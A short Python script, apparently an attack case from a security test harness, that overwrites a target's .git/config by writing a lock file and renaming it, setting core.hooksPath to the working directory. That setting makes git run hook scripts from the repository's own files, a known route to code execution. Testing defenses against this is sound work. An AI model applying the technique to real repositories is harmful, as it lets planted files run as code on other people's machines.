# As git itself does: a new file, then a rename.
import os

from inside import run


def attack(target):
    with open(f"{target.work}/.git/config.lock", "w") as file:
        file.write("[core]\nhooksPath = .\n")
    os.rename(file.name, f"{target.work}/.git/config")


run(attack)
